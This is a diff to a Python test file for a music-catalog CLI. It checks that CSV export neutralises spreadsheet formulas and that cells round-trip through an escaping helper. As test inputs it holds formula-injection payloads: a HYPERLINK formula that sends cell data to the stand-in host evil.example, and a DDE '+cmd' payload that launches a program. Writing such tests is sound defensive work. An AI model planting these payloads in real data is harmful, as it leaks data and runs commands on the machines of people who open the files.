@@ -39,9 +39,6 @@ def unchanged(people: dict[str, str], env: Path, store_url: str) -> Iterator[Non
 # --- still open ---------------------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True, reason="probe: catalog export writes =/+/-/@ cells into CSV as they are"
-)
 def test_csv_export_neutralises_spreadsheet_formulas(ada: Cli, tmp_path: Path) -> None:
     ada.ok("release", "create", '=HYPERLINK("https://evil.example/?"&A1,"x")', "--genre", "Pop")
     ada.ok("release", "create", "@SUM(1+1)", "--genre", "+cmd|' /C calc'!A0")
@@ -50,6 +47,17 @@ def test_csv_export_neutralises_spreadsheet_formulas(ada: Cli, tmp_path: Path) -
     assert ada("catalog", "export", "--output", str(out)).exit_code == 0
     cells = [cell for row in csv.reader(io.StringIO(out.read_text())) for cell in row]
     assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in cells
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+cmd", "-2+3", "@SUM(1)", "'=quoted", "'plain", "it's", "''", "=", "plain"]
+)
+def test_a_csv_cell_reads_back_as_it_was_written(text: str) -> None:
+    from vwaza_cli.services.catalog_format import csv_cell, csv_value
+
+    assert csv_value(csv_cell(text)) == text
+    assert not csv_cell(text).startswith(FORMULA_STARTS)
 
 
 # --- held up: guards ----------------------------------------------------------------------
